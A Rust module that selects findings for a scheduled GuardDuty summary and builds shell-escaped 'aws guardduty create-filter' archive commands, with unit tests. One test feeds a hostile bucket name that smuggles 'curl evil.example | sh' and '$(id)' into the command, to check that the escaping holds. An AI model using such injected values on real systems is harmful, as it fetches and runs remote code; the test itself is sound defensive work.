//! Selects the content of a summary, and the filters that it proposes. Pure.

use std::collections::BTreeMap;
use std::time::Duration;

use serde_json::{Map, Value, json};

use crate::config::SummarySchedule;
use crate::finding::short_hash;
use crate::message::NoisyPair;
use crate::state::{FindingRecord, State};
use crate::time::Timestamp;

/// A due time that was missed for longer is skipped.
const MAX_DELAY: Duration = Duration::from_hours(24);
/// Findings that a summary lists, and pairs.
pub(crate) const WORST: usize = 10;
pub(crate) const NOISIEST: usize = 5;

/// The due time of which the summary is still to be posted.
pub(crate) fn due_summary(schedule: &SummarySchedule, done: Timestamp, now: Timestamp) -> Option<Timestamp> {
    schedule.last_due(now).filter(|due| *due > done && now.duration_since(*due) <= MAX_DELAY)
}

/// The ID of a summary names its due time.
pub(crate) fn summary_id(due: Timestamp) -> String {
    format!("summary-{}", due.0 / 1_000)
}

/// The open findings that have a message, the most severe first, and the oldest first among equals.
pub(crate) fn most_severe(state: &State, limit: usize) -> Vec<String> {
    let mut open: Vec<(&String, &FindingRecord)> = state.findings.iter().filter(|(_, entry)| is_open(entry)).collect();
    open.sort_by(|(_, a), (_, b)| {
        b.severity
            .total_cmp(&a.severity)
            .then(a.first_message().cmp(&b.first_message()))
            .then_with(|| message(a).cmp(&message(b)))
    });
    open.into_iter().take(limit).map(|(id, _)| id.clone()).collect()
}

fn message(entry: &FindingRecord) -> Option<&str> {
    entry.bot_message().map(|at| at.ts.as_str())
}

/// The open findings with the highest counts above one.
pub(crate) fn most_frequent(state: &State, limit: usize) -> Vec<String> {
    let mut frequent: Vec<(&String, &FindingRecord)> =
        state.findings.iter().filter(|(_, entry)| is_open(entry) && entry.count > 1).collect();
    frequent.sort_by_key(|(_, entry)| std::cmp::Reverse(entry.count));
    frequent.into_iter().take(limit).map(|(id, _)| id.clone()).collect()
}

fn is_open(entry: &FindingRecord) -> bool {
    entry.message.is_some() && !entry.archived && entry.marks().resolved.is_none()
}

/// The fields of `CreateFilter` that identify a resource, by kind of resource: the first kind that a finding has counts.
/// See GuardDuty API Reference, CreateFilter, findingCriteria.
const IDENTITIES: [&[&str]; 14] = [
    &[
        "resource.eksClusterDetails.name",
        "resource.kubernetesDetails.kubernetesWorkloadDetails.namespace",
        "resource.kubernetesDetails.kubernetesWorkloadDetails.name",
        "resource.kubernetesDetails.kubernetesUserDetails.username",
    ],
    &["resource.ecsClusterDetails.arn", "resource.ecsClusterDetails.taskDetails.definitionArn"],
    &["resource.instanceDetails.instanceId"],
    &["resource.s3BucketDetails.name"],
    &["resource.rdsDbInstanceDetails.dbInstanceIdentifier", "resource.rdsDbUserDetails.user"],
    &["resource.rdsLimitlessDbDetails.dbShardGroupIdentifier", "resource.rdsDbUserDetails.user"],
    &["resource.lambdaDetails.functionArn"],
    &["resource.ebsSnapshotDetails.snapshotArn"],
    &["resource.ec2ImageDetails.imageArn"],
    &["resource.recoveryPointDetails.recoveryPointArn"],
    &["resource.bedrockGuardrailDetails.guardrailArn"],
    &["service.detection.sequence.uid"],
    &["resource.accessKeyDetails.userName", "resource.accessKeyDetails.userType"],
    &["resource.accessKeyDetails.principalId"],
];

/// A finding as GuardDuty returns it.
#[derive(Clone, Debug)]
pub(crate) struct FindingDocument {
    pub finding: Value,
    pub detector: String,
    pub region: String,
}

/// The most frequent pairs of finding type and resource, with their filters.
pub(crate) fn noisiest(documents: &[FindingDocument]) -> Vec<NoisyPair> {
    let mut pairs: BTreeMap<(String, String), NoisyPair> = BTreeMap::new();
    for FindingDocument { finding, detector, region } in documents {
        let Some(criterion) = criterion(finding) else { continue };
        let count = finding.pointer("/service/count").and_then(Value::as_u64).unwrap_or(1);
        let key = (detector.clone(), Value::Object(criterion.clone()).to_string());
        let pair = pairs.entry(key).or_insert_with(|| new_pair(finding, &criterion, detector, region));
        pair.count += count;
    }
    let mut pairs: Vec<NoisyPair> = pairs.into_values().collect();
    pairs.sort_by_key(|pair| std::cmp::Reverse(pair.count));
    pairs.truncate(NOISIEST);
    pairs
}

fn new_pair(document: &Value, criterion: &Map<String, Value>, detector: &str, region: &str) -> NoisyPair {
    let names = criterion.iter().filter(|(field, _)| !["accountId", "type"].contains(&field.as_str()));
    let names: Vec<&str> = names.filter_map(|(_, condition)| condition.pointer("/Equals/0")?.as_str()).collect();
    let finding_type = document.get("type").and_then(Value::as_str).unwrap_or_default().to_owned();
    let command = command(&finding_type, criterion, detector, region);
    NoisyPair { finding_type, resource: names.join(", "), count: 0, command }
}

/// The criterion that fits the findings of this type on this resource, and no others. Without a field that identifies the
/// resource it fits the finding itself, whose recurrences keep its ID.
fn criterion(document: &Value) -> Option<Map<String, Value>> {
    let mut criterion = Map::new();
    let mut add = |field: &str, value: &str| criterion.insert(field.to_owned(), json!({"Equals": [value]}));
    add("type", document.get("type")?.as_str()?);
    add("accountId", document.get("accountId")?.as_str()?);
    let identity = IDENTITIES.iter().find(|fields| only_value(document, fields[0]).is_some());
    for field in identity.copied().unwrap_or(&["id"]) {
        if let Some(value) = only_value(document, field) {
            add(field, &value);
        }
    }
    (criterion.len() > 2).then_some(criterion)
}

/// The value at a path, if there is exactly one.
fn only_value(document: &Value, path: &str) -> Option<String> {
    let mut nodes = vec![document];
    for member in path.split('.') {
        let members = nodes.into_iter().filter_map(|node| node.get(member));
        nodes =
            members.flat_map(|node| node.as_array().map_or_else(|| vec![node], |all| all.iter().collect())).collect();
    }
    match nodes[..] {
        [one] => one.as_str().filter(|text| !text.is_empty()).map(str::to_owned),
        _ => None,
    }
}

fn command(finding_type: &str, criterion: &Map<String, Value>, detector: &str, region: &str) -> String {
    let criteria = json!({"Criterion": criterion}).to_string();
    let plain: String =
        finding_type.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).take(40).collect();
    let name = format!("{plain}-{}", short_hash([criteria.as_str()]));
    let [detector, region] = [detector, region].map(command_argument);
    format!(
        "aws guardduty create-filter --region {region} --detector-id {detector} --name {name} --action ARCHIVE --finding-criteria '{}'",
        ascii_json(&criteria)
    )
}

/// Removes characters that must not become part of a command.
fn command_argument(text: &str) -> String {
    text.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').collect()
}

/// JSON in which every character that could mean something to a shell or a reader, or hide something, is escaped: it can
/// be enclosed in single quotes.
fn ascii_json(json: &str) -> String {
    let mut text = String::new();
    for c in json.chars() {
        match c {
            ' '..='~' if !"'<>&`$!".contains(c) => text.push(c),
            _ => c.encode_utf16(&mut [0; 2]).iter().for_each(|unit| text += &format!("\\u{unit:04x}")),
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bucket(name: &str, count: u64) -> Value {
        json!({"id": "f1", "type": "Policy:S3/BucketPublicAccessGranted", "accountId": "111122223333",
            "resource": {"resourceType": "S3Bucket", "s3BucketDetails": [{"name": name}],
                "accessKeyDetails": {"userName": "alice", "userType": "IAMUser"}},
            "service": {"count": count}})
    }

    fn pairs(documents: &[Value]) -> Vec<NoisyPair> {
        let with_place = |finding: &Value| FindingDocument {
            finding: finding.clone(),
            detector: "d1".into(),
            region: "eu-west-1".into(),
        };
        noisiest(&documents.iter().map(with_place).collect::<Vec<_>>())
    }

    #[test]
    fn pairs_are_ordered_by_their_count() {
        let found = pairs(&[bucket("a", 3), bucket("b", 10), bucket("a", 9)]);
        let counts: Vec<(&str, u64)> = found.iter().map(|pair| (pair.resource.as_str(), pair.count)).collect();
        assert_eq!(counts, [("a", 12), ("b", 10)]);
    }

    #[test]
    fn a_command_fits_the_type_on_the_resource() {
        let found = pairs(&[bucket("payroll", 3)]);
        assert_eq!(
            found[0].command,
            "aws guardduty create-filter --region eu-west-1 --detector-id d1 --name Policy-S3-BucketPublicAccessGranted-107dcc70 \
             --action ARCHIVE --finding-criteria '{\"Criterion\":{\"accountId\":{\"Equals\":[\"111122223333\"]},\
             \"resource.s3BucketDetails.name\":{\"Equals\":[\"payroll\"]},\
             \"type\":{\"Equals\":[\"Policy:S3/BucketPublicAccessGranted\"]}}}'"
        );
    }

    #[test]
    fn a_hostile_name_stays_a_value_of_the_criterion() {
        let name = "x'; curl evil.example | sh; echo '\u{202e}`$(id)`<!here>&";
        let command = pairs(&[bucket(name, 3)]).remove(0).command;
        let quoted: Vec<&str> = command.split('\'').collect();
        assert_eq!((quoted.len(), quoted[2]), (3, ""), "{command}");
        assert!(command.is_ascii() && !command.contains(['`', '$', '<']), "{command}");
        let criteria: Value = serde_json::from_str(quoted[1]).unwrap();
        assert_eq!(criteria["Criterion"]["resource.s3BucketDetails.name"]["Equals"][0], name);
    }

    #[test]
    fn a_finding_without_an_identified_resource_is_named_by_its_id() {
        let document =
            json!({"id": "f9", "type": "New:Kind/Thing", "accountId": "111122223333", "service": {"count": 2}});
        assert!(pairs(&[document]).remove(0).command.contains("\"id\":{\"Equals\":[\"f9\"]}"));
        let two = json!({"id": "f9", "type": "T:S3/x", "accountId": "1", "resource": {"s3BucketDetails": [{"name": "a"}, {"name": "b"}]}});
        assert!(pairs(&[two]).remove(0).command.contains("\"f9\""), "two buckets are not one resource");
    }

    #[test]
    fn a_due_time_is_summarized_once_and_skipped_after_a_day() {
        let vars = [
            ("SLACK_BOT_TOKEN", "xoxb-1"),
            ("SLACK_CHANNEL", "C0SECURITY"),
            ("SLACK_SUMMARY", "weekdays 09:00"),
            ("AWS_REGION", "eu-west-1"),
        ];
        let config = crate::config::Config::from_env(vars.map(|(k, v)| (k.to_owned(), v.to_owned())), false).unwrap();
        let schedule = config.slack.summary.unwrap();
        let at = |text: &str| Timestamp::parse(text).unwrap();
        let due = |done: &str, now: &str| due_summary(&schedule, at(done), at(now));
        let friday = "2026-11-27T09:00:00Z";
        assert_eq!(due("2026-11-27T08:55:00Z", "2026-11-27T08:59:59Z"), None);
        assert_eq!(due("2026-11-27T08:55:00Z", "2026-11-27T09:00:01Z"), Some(at(friday)));
        assert_eq!(due(friday, "2026-11-27T09:05:00Z"), None, "delivered");
        assert_eq!(due("2026-11-27T09:00:01Z", "2026-11-27T10:00:00Z"), None, "before the first run");
        assert_eq!(due("2026-11-27T08:55:00Z", "2026-11-28T09:00:00Z"), Some(at(friday)));
        assert_eq!(due("2026-11-27T08:55:00Z", "2026-11-28T09:00:01Z"), None, "missed by more than a day");
    }
}
